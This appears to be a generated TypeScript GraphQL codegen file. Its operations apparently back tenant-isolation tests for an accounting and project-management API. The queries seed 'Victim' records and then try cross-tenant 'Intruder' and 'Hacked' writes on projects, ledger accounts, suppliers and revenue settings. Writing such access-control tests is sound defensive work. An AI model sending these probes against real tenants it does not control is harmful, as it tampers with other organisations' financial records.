export function graphql(source: "mutation TenantLogout { logout { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantLogout { logout { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantLogoutEverywhere { logoutEverywhere { __typename ... on MutationLogoutEverywhereSuccess { data } } }"): (typeof documents)["mutation TenantLogoutEverywhere { logoutEverywhere { __typename ... on MutationLogoutEverywhereSuccess { data } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantRevokeSession($id: ID!) { revokeSession(id: $id) { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantRevokeSession($id: ID!) { revokeSession(id: $id) { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantChangePassword($p: String!) { changePassword(newPassword: $p) { __typename ... on Error { code } } }\n  "): (typeof documents)["\n    mutation TenantChangePassword($p: String!) { changePassword(newPassword: $p) { __typename ... on Error { code } } }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantRequestReset($email: String!) { requestPasswordReset(email: $email) { __typename } }"): (typeof documents)["mutation TenantRequestReset($email: String!) { requestPasswordReset(email: $email) { __typename } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantResetPassword($t: String!) { resetPassword(token: $t, newPassword: \"a fine password\") { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantResetPassword($t: String!) { resetPassword(token: $t, newPassword: \"a fine password\") { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantEnrolTotp { enrolTotp { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantEnrolTotp { enrolTotp { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantConfirmTotp { confirmTotp(code: \"000000\") { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantConfirmTotp { confirmTotp(code: \"000000\") { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantDisableTotp { disableTotp(code: \"000000\") { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantDisableTotp { disableTotp(code: \"000000\") { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantInviteUser($email: String!) { inviteUser(email: $email) { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantInviteUser($email: String!) { inviteUser(email: $email) { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantAcceptInvite($t: String!) { acceptInvite(token: $t, name: \"X\", password: \"a fine password\") { __typename ... on Error { code } } }\n  "): (typeof documents)["\n    mutation TenantAcceptInvite($t: String!) { acceptInvite(token: $t, name: \"X\", password: \"a fine password\") { __typename ... on Error { code } } }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantMyNotifications { myNotifications(first: 50) { totalCount edges { node { id customerName customerNumber } } } }"): (typeof documents)["query TenantMyNotifications { myNotifications(first: 50) { totalCount edges { node { id customerName customerNumber } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    query TenantNotifications($userId: ID) {\n      notifications(first: 50, userId: $userId) { edges { node { id customerName customerNumber mailTo } } }\n    }\n  "): (typeof documents)["\n    query TenantNotifications($userId: ID) {\n      notifications(first: 50, userId: $userId) { edges { node { id customerName customerNumber mailTo } } }\n    }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantMarkNotificationsRead($ids: [ID!]) {\n      markNotificationsRead(ids: $ids) { __typename ... on Error { code } ... on MutationMarkNotificationsReadSuccess { data } }\n    }\n  "): (typeof documents)["\n    mutation TenantMarkNotificationsRead($ids: [ID!]) {\n      markNotificationsRead(ids: $ids) { __typename ... on Error { code } ... on MutationMarkNotificationsReadSuccess { data } }\n    }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantPrjSeedCustomer { createCustomer(input: { name: \"Victim Project Customer\" }) { __typename ... on MutationCreateCustomerSuccess { data { id } } } }\n"): (typeof documents)["\n  mutation TenantPrjSeedCustomer { createCustomer(input: { name: \"Victim Project Customer\" }) { __typename ... on MutationCreateCustomerSuccess { data { id } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantPrjSeedProject($customerId: ID!) {\n    createProject(input: { customerId: $customerId, name: \"Victim Project\", number: \"V-900\", statusCode: 50, description: \"victim-project-secret\" }) {\n      __typename ... on MutationCreateProjectSuccess { data { id } }\n    }\n  }\n"): (typeof documents)["\n  mutation TenantPrjSeedProject($customerId: ID!) {\n    createProject(input: { customerId: $customerId, name: \"Victim Project\", number: \"V-900\", statusCode: 50, description: \"victim-project-secret\" }) {\n      __typename ... on MutationCreateProjectSuccess { data { id } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantPrjSeedWorkOrder($projectId: ID!) {\n    createWorkOrder(projectId: $projectId, input: { name: \"Victim Work Order\" }) { __typename ... on MutationCreateWorkOrderSuccess { data { id } } }\n  }\n"): (typeof documents)["\n  mutation TenantPrjSeedWorkOrder($projectId: ID!) {\n    createWorkOrder(projectId: $projectId, input: { name: \"Victim Work Order\" }) { __typename ... on MutationCreateWorkOrderSuccess { data { id } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantPrjSeedChangeOrder($projectId: ID!) {\n    createChangeOrder(projectId: $projectId, input: { name: \"Victim ÄTA\", estimatedAmount: \"777.77\" }) { __typename ... on MutationCreateChangeOrderSuccess { data { id } } }\n  }\n"): (typeof documents)["\n  mutation TenantPrjSeedChangeOrder($projectId: ID!) {\n    createChangeOrder(projectId: $projectId, input: { name: \"Victim ÄTA\", estimatedAmount: \"777.77\" }) { __typename ... on MutationCreateChangeOrderSuccess { data { id } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantPrjSeedStatuses { projectStatuses { id code } }"): (typeof documents)["query TenantPrjSeedStatuses { projectStatuses { id code } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantProjectStatuses { projectStatuses { id code name } }"): (typeof documents)["query TenantProjectStatuses { projectStatuses { id code name } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantProject($id: ID!) { project(id: $id) { id name } }"): (typeof documents)["query TenantProject($id: ID!) { project(id: $id) { id name } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantProjectByNumber { projectByNumber(number: \"V-900\") { id name } }"): (typeof documents)["query TenantProjectByNumber { projectByNumber(number: \"V-900\") { id name } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantProjects { projects(first: 200, search: \"Victim\") { totalCount edges { node { id name workOrders(first: 5) { edges { node { id name } } } } } } }"): (typeof documents)["query TenantProjects { projects(first: 200, search: \"Victim\") { totalCount edges { node { id name workOrders(first: 5) { edges { node { id name } } } } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantCreateProject($customerId: ID!, $statusCode: Int) { createProject(input: { customerId: $customerId, name: \"Intruder\" statusCode: $statusCode }) { __typename ... on Error { code } ... on MutationCreateProjectSuccess { data { id customer { name } } } } }"): (typeof documents)["mutation TenantCreateProject($customerId: ID!, $statusCode: Int) { createProject(input: { customerId: $customerId, name: \"Intruder\" statusCode: $statusCode }) { __typename ... on Error { code } ... on MutationCreateProjectSuccess { data { id customer { name } } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantUpdateProject($id: ID!) { updateProject(input: { id: $id, name: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateProjectSuccess { data { id name } } } }"): (typeof documents)["mutation TenantUpdateProject($id: ID!) { updateProject(input: { id: $id, name: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateProjectSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantCloseProject($id: ID!) { closeProject(id: $id) { __typename ... on Error { code } ... on MutationCloseProjectSuccess { data { id name } } } }"): (typeof documents)["mutation TenantCloseProject($id: ID!) { closeProject(id: $id) { __typename ... on Error { code } ... on MutationCloseProjectSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantCreateWorkOrder($projectId: ID!) { createWorkOrder(projectId: $projectId, input: { name: \"Intruder\" }) { __typename ... on Error { code } ... on MutationCreateWorkOrderSuccess { data { id project { name } } } } }"): (typeof documents)["mutation TenantCreateWorkOrder($projectId: ID!) { createWorkOrder(projectId: $projectId, input: { name: \"Intruder\" }) { __typename ... on Error { code } ... on MutationCreateWorkOrderSuccess { data { id project { name } } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantUpdateWorkOrder($id: ID!) { updateWorkOrder(id: $id, input: { name: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateWorkOrderSuccess { data { id name } } } }"): (typeof documents)["mutation TenantUpdateWorkOrder($id: ID!) { updateWorkOrder(id: $id, input: { name: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateWorkOrderSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantCloseWorkOrder($id: ID!) { closeWorkOrder(id: $id) { __typename ... on Error { code } ... on MutationCloseWorkOrderSuccess { data { id name } } } }"): (typeof documents)["mutation TenantCloseWorkOrder($id: ID!) { closeWorkOrder(id: $id) { __typename ... on Error { code } ... on MutationCloseWorkOrderSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantCreateChangeOrder($projectId: ID!) { createChangeOrder(projectId: $projectId, input: { name: \"Intruder\" }) { __typename ... on Error { code } ... on MutationCreateChangeOrderSuccess { data { id project { name } } } } }"): (typeof documents)["mutation TenantCreateChangeOrder($projectId: ID!) { createChangeOrder(projectId: $projectId, input: { name: \"Intruder\" }) { __typename ... on Error { code } ... on MutationCreateChangeOrderSuccess { data { id project { name } } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantUpdateChangeOrder($id: ID!) { updateChangeOrder(id: $id, input: { name: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateChangeOrderSuccess { data { id name } } } }"): (typeof documents)["mutation TenantUpdateChangeOrder($id: ID!) { updateChangeOrder(id: $id, input: { name: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateChangeOrderSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantCloseChangeOrder($id: ID!) { closeChangeOrder(id: $id) { __typename ... on Error { code } ... on MutationCloseChangeOrderSuccess { data { id name } } } }"): (typeof documents)["mutation TenantCloseChangeOrder($id: ID!) { closeChangeOrder(id: $id) { __typename ... on Error { code } ... on MutationCloseChangeOrderSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantCreateProjectStatus { createProjectStatus(input: { code: 77, name: \"Attacker status\" }) { __typename ... on Error { code } ... on MutationCreateProjectStatusSuccess { data { id code } } } }"): (typeof documents)["mutation TenantCreateProjectStatus { createProjectStatus(input: { code: 77, name: \"Attacker status\" }) { __typename ... on Error { code } ... on MutationCreateProjectStatusSuccess { data { id code } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantRenameProjectStatus($id: ID!) { renameProjectStatus(id: $id, name: \"Hacked\") { __typename ... on Error { code } ... on MutationRenameProjectStatusSuccess { data { id name } } } }"): (typeof documents)["mutation TenantRenameProjectStatus($id: ID!) { renameProjectStatus(id: $id, name: \"Hacked\") { __typename ... on Error { code } ... on MutationRenameProjectStatusSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantDeleteProjectStatus($id: ID!) { deleteProjectStatus(id: $id) { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantDeleteProjectStatus($id: ID!) { deleteProjectStatus(id: $id) { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantRegSeedAccount { createAccount(input: { number: 4711, name: \"Victim Ledger Account\", kind: MATERIAL, defaultVatRate: \"25\" }) { __typename ... on MutationCreateAccountSuccess { data { id } } } }\n"): (typeof documents)["\n  mutation TenantRegSeedAccount { createAccount(input: { number: 4711, name: \"Victim Ledger Account\", kind: MATERIAL, defaultVatRate: \"25\" }) { __typename ... on MutationCreateAccountSuccess { data { id } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantRegSeedCostCentre { createCostCentre(input: { code: \"VCC-9\", name: \"Victim Cost Centre\" }) { __typename ... on MutationCreateCostCentreSuccess { data { id } } } }\n"): (typeof documents)["\n  mutation TenantRegSeedCostCentre { createCostCentre(input: { code: \"VCC-9\", name: \"Victim Cost Centre\" }) { __typename ... on MutationCreateCostCentreSuccess { data { id } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantRegSeedSupplier {\n    createSupplier(input: { number: \"VS-1\", name: \"Victim Supplies AB\", email: \"victim-supplier@victim.se\", bankgiro: \"5050-1055\", iban: \"SE35 5000 0000 0549 1000 0003\" }) {\n      __typename ... on MutationCreateSupplierSuccess { data { id } }\n    }\n  }\n"): (typeof documents)["\n  mutation TenantRegSeedSupplier {\n    createSupplier(input: { number: \"VS-1\", name: \"Victim Supplies AB\", email: \"victim-supplier@victim.se\", bankgiro: \"5050-1055\", iban: \"SE35 5000 0000 0549 1000 0003\" }) {\n      __typename ... on MutationCreateSupplierSuccess { data { id } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantRegSeedTerms { createPaymentTerm(input: { code: \"VPT\", name: \"Victim terms\", days: 17 }) { __typename ... on MutationCreatePaymentTermSuccess { data { id } } } }\n"): (typeof documents)["\n  mutation TenantRegSeedTerms { createPaymentTerm(input: { code: \"VPT\", name: \"Victim terms\", days: 17 }) { __typename ... on MutationCreatePaymentTermSuccess { data { id } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantAccounts { accounts(first: 200) { totalCount edges { node { id number name } } } }"): (typeof documents)["query TenantAccounts { accounts(first: 200) { totalCount edges { node { id number name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantAccountByNumber { accountByNumber(number: 4711) { id name } }"): (typeof documents)["query TenantAccountByNumber { accountByNumber(number: 4711) { id name } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantCostCentres { costCentres(includeInactive: true) { id code name } }"): (typeof documents)["query TenantCostCentres { costCentres(includeInactive: true) { id code name } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantSuppliers { suppliers(first: 200) { totalCount edges { node { id number name email bankgiro iban } } } }"): (typeof documents)["query TenantSuppliers { suppliers(first: 200) { totalCount edges { node { id number name email bankgiro iban } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    query TenantVouchers($projectId: ID) {\n      vouchers(first: 200, filter: { projectId: $projectId }) {\n        totalCount\n        edges { node { id remoteId description rows { note debit credit account { name } project { id } costCentre { name } } } }\n      }\n    }\n  "): (typeof documents)["\n    query TenantVouchers($projectId: ID) {\n      vouchers(first: 200, filter: { projectId: $projectId }) {\n        totalCount\n        edges { node { id remoteId description rows { note debit credit account { name } project { id } costCentre { name } } } }\n      }\n    }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    query TenantCostLedger($id: ID!) {\n      node(id: $id) { id ... on Project { costLedger { byAccount { accountName net } byPart { workOrder { id } changeOrder { id } net } total { net } } } }\n    }\n  "): (typeof documents)["\n    query TenantCostLedger($id: ID!) {\n      node(id: $id) { id ... on Project { costLedger { byAccount { accountName net } byPart { workOrder { id } changeOrder { id } net } total { net } } } }\n    }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantCreateAccount { createAccount(input: { number: 4711, name: \"Intruder account\" }) { __typename ... on Error { code } ... on MutationCreateAccountSuccess { data { id name } } } }"): (typeof documents)["mutation TenantCreateAccount { createAccount(input: { number: 4711, name: \"Intruder account\" }) { __typename ... on Error { code } ... on MutationCreateAccountSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantUpdateAccount($id: ID!) { updateAccount(input: { id: $id, name: \"Hacked\", active: false }) { __typename ... on Error { code } ... on MutationUpdateAccountSuccess { data { id name } } } }"): (typeof documents)["mutation TenantUpdateAccount($id: ID!) { updateAccount(input: { id: $id, name: \"Hacked\", active: false }) { __typename ... on Error { code } ... on MutationUpdateAccountSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantCreateCostCentre { createCostCentre(input: { code: \"VCC-9\", name: \"Intruder centre\" }) { __typename ... on Error { code } ... on MutationCreateCostCentreSuccess { data { id name } } } }"): (typeof documents)["mutation TenantCreateCostCentre { createCostCentre(input: { code: \"VCC-9\", name: \"Intruder centre\" }) { __typename ... on Error { code } ... on MutationCreateCostCentreSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantUpdateCostCentre($id: ID!) { updateCostCentre(input: { id: $id, name: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateCostCentreSuccess { data { id name } } } }"): (typeof documents)["mutation TenantUpdateCostCentre($id: ID!) { updateCostCentre(input: { id: $id, name: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateCostCentreSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantCreateSupplier { createSupplier(input: { number: \"VS-1\", name: \"Intruder supplier\" }) { __typename ... on Error { code } ... on MutationCreateSupplierSuccess { data { id name } } } }"): (typeof documents)["mutation TenantCreateSupplier { createSupplier(input: { number: \"VS-1\", name: \"Intruder supplier\" }) { __typename ... on Error { code } ... on MutationCreateSupplierSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantUpdateSupplier($id: ID!) { updateSupplier(input: { id: $id, name: \"Hacked\", bankgiro: null }) { __typename ... on Error { code } ... on MutationUpdateSupplierSuccess { data { id name } } } }"): (typeof documents)["mutation TenantUpdateSupplier($id: ID!) { updateSupplier(input: { id: $id, name: \"Hacked\", bankgiro: null }) { __typename ... on Error { code } ... on MutationUpdateSupplierSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantCreatePaymentTerm { createPaymentTerm(input: { code: \"VPT\", name: \"Intruder terms\", days: 5 }) { __typename ... on Error { code } ... on MutationCreatePaymentTermSuccess { data { id name } } } }"): (typeof documents)["mutation TenantCreatePaymentTerm { createPaymentTerm(input: { code: \"VPT\", name: \"Intruder terms\", days: 5 }) { __typename ... on Error { code } ... on MutationCreatePaymentTermSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantUpdatePaymentTerm($id: ID!) { updatePaymentTerm(input: { id: $id, days: 99, active: false }) { __typename ... on Error { code } ... on MutationUpdatePaymentTermSuccess { data { id name } } } }"): (typeof documents)["mutation TenantUpdatePaymentTerm($id: ID!) { updatePaymentTerm(input: { id: $id, days: 99, active: false }) { __typename ... on Error { code } ... on MutationUpdatePaymentTermSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantDeletePaymentTerm($id: ID!) { deletePaymentTerm(id: $id) { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantDeletePaymentTerm($id: ID!) { deletePaymentTerm(id: $id) { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantRevSeedAccount { createAccount(input: { number: 3011, name: \"Victim revenue account\" }) { __typename } }\n"): (typeof documents)["\n  mutation TenantRevSeedAccount { createAccount(input: { number: 3011, name: \"Victim revenue account\" }) { __typename } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantRevSeedRules {\n    setRevenuePostingRules(rules: [{ accountNumber: 3011, description: \"Victim default rule\" }]) { __typename ... on MutationSetRevenuePostingRulesSuccess { data { postingRules { id } } } }\n  }\n"): (typeof documents)["\n  mutation TenantRevSeedRules {\n    setRevenuePostingRules(rules: [{ accountNumber: 3011, description: \"Victim default rule\" }]) { __typename ... on MutationSetRevenuePostingRulesSuccess { data { postingRules { id } } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantRevSeedActivate { updateRevenueAccountingSettings(input: { active: true, dimensions: [{ number: 5, included: true, name: \"Victim dimension\" }] }) { __typename } }\n"): (typeof documents)["\n  mutation TenantRevSeedActivate { updateRevenueAccountingSettings(input: { active: true, dimensions: [{ number: 5, included: true, name: \"Victim dimension\" }] }) { __typename } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantRevSeedCustomer { createCustomer(input: { name: \"Victim Revenue Customer\", category: INTRA_GROUP }) { __typename ... on MutationCreateCustomerSuccess { data { id } } } }\n"): (typeof documents)["\n  mutation TenantRevSeedCustomer { createCustomer(input: { name: \"Victim Revenue Customer\", category: INTRA_GROUP }) { __typename ... on MutationCreateCustomerSuccess { data { id } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantRevSeedProject($customerId: ID!) {\n    createProject(input: { customerId: $customerId, name: \"Victim Revenue Project\", statusCode: 50 }) { __typename ... on MutationCreateProjectSuccess { data { id } } }\n  }\n"): (typeof documents)["\n  mutation TenantRevSeedProject($customerId: ID!) {\n    createProject(input: { customerId: $customerId, name: \"Victim Revenue Project\", statusCode: 50 }) { __typename ... on MutationCreateProjectSuccess { data { id } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantRevSeedInvoice($projectId: ID!) {\n    createInvoice(input: { projectId: $projectId, lines: [{ description: \"Victim revenue line\", quantity: \"1\", unitPrice: \"31415.92\" }] }) {\n      __typename ... on MutationCreateInvoiceSuccess { data { id lines { id } revenueLines { id } accountingBasis { id } } }\n    }\n  }\n"): (typeof documents)["\n  mutation TenantRevSeedInvoice($projectId: ID!) {\n    createInvoice(input: { projectId: $projectId, lines: [{ description: \"Victim revenue line\", quantity: \"1\", unitPrice: \"31415.92\" }] }) {\n      __typename ... on MutationCreateInvoiceSuccess { data { id lines { id } revenueLines { id } accountingBasis { id } } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantRevSeedBalance($invoiceId: ID!) {\n    addBalancePosting(invoiceId: $invoiceId, input: { amount: \"271.82\", accountNumber: 3011, description: \"Victim balance posting\" }) {\n      __typename ... on MutationAddBalancePostingSuccess { data { id } }\n    }\n  }\n"): (typeof documents)["\n  mutation TenantRevSeedBalance($invoiceId: ID!) {\n    addBalancePosting(invoiceId: $invoiceId, input: { amount: \"271.82\", accountNumber: 3011, description: \"Victim balance posting\" }) {\n      __typename ... on MutationAddBalancePostingSuccess { data { id } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    query TenantRevenueSettings { revenueAccountingSettings { active dimensions { number name } postingRules { id accountNumber description } } }\n  "): (typeof documents)["\n    query TenantRevenueSettings { revenueAccountingSettings { active dimensions { number name } postingRules { id accountNumber description } } }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantRevenueUpdateSettings { updateRevenueAccountingSettings(input: { dimensions: [{ number: 6, included: true, name: \"Attacker\" }] }) { __typename ... on Error { code } } }\n  "): (typeof documents)["\n    mutation TenantRevenueUpdateSettings { updateRevenueAccountingSettings(input: { dimensions: [{ number: 6, included: true, name: \"Attacker\" }] }) { __typename ... on Error { code } } }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantRevenueSetRules { setRevenuePostingRules(rules: [{ accountNumber: 3011 }]) { __typename ... on Error { code } ... on MutationSetRevenuePostingRulesSuccess { data { postingRules { id description } } } } }\n  "): (typeof documents)["\n    mutation TenantRevenueSetRules { setRevenuePostingRules(rules: [{ accountNumber: 3011 }]) { __typename ... on Error { code } ... on MutationSetRevenuePostingRulesSuccess { data { postingRules { id description } } } } }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantRevenueUpdateLine($id: ID!) { updateInvoiceRevenueLine(id: $id, input: { dimension5: \"Hacked\" }) { __typename ... on Error { code } } }\n  "): (typeof documents)["\n    mutation TenantRevenueUpdateLine($id: ID!) { updateInvoiceRevenueLine(id: $id, input: { dimension5: \"Hacked\" }) { __typename ... on Error { code } } }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantRevenueSplit($lineId: ID!) { splitInvoiceLineRevenue(lineId: $lineId, parts: [{ amount: \"31415.92\" }]) { __typename ... on Error { code } } }\n  "): (typeof documents)["\n    mutation TenantRevenueSplit($lineId: ID!) { splitInvoiceLineRevenue(lineId: $lineId, parts: [{ amount: \"31415.92\" }]) { __typename ... on Error { code } } }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantRevenueReset($invoiceId: ID!) { resetInvoiceRevenueAccounting(invoiceId: $invoiceId) { __typename ... on Error { code } } }\n  "): (typeof documents)["\n    mutation TenantRevenueReset($invoiceId: ID!) { resetInvoiceRevenueAccounting(invoiceId: $invoiceId) { __typename ... on Error { code } } }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantRevenueAddBalance($invoiceId: ID!) { addBalancePosting(invoiceId: $invoiceId, input: { amount: \"1\", accountNumber: 3011 }) { __typename ... on Error { code } } }\n  "): (typeof documents)["\n    mutation TenantRevenueAddBalance($invoiceId: ID!) { addBalancePosting(invoiceId: $invoiceId, input: { amount: \"1\", accountNumber: 3011 }) { __typename ... on Error { code } } }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantRevenueRemoveBalance($id: ID!) { removeBalancePosting(id: $id) { __typename ... on Error { code } } }\n  "): (typeof documents)["\n    mutation TenantRevenueRemoveBalance($id: ID!) { removeBalancePosting(id: $id) { __typename ... on Error { code } } }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
